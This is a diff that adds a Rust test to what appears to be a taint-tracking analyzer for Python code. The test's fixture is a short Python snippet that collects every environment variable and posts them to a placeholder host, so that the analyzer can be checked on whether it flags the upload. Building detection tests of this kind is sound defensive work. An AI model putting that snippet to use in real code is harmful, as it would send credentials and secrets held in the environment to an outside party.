@@ -336,3 +336,17 @@ fn unrolling_inside_unrolling_stops_at_the_budget() {
     let system = a.calls.iter().find(|c| &*c.name == "os.system").unwrap();
     assert_eq!(system.args[0].text, None);
 }
+
+#[test]
+fn environ_imported_by_name_is_the_whole_environment() {
+    let a = model(
+        "import requests\nfrom os import environ\ndump = ''\nfor _, v in environ.items():\n    dump += v\nrequests.post('https://x.example/', data=dump)\n",
+        FileRole::Module,
+    );
+    let post = a
+        .calls
+        .iter()
+        .find(|c| &*c.name == "requests.post")
+        .unwrap();
+    assert!(post.all_args().any(|v| v.has(taint::ENV_ALL)));
+}
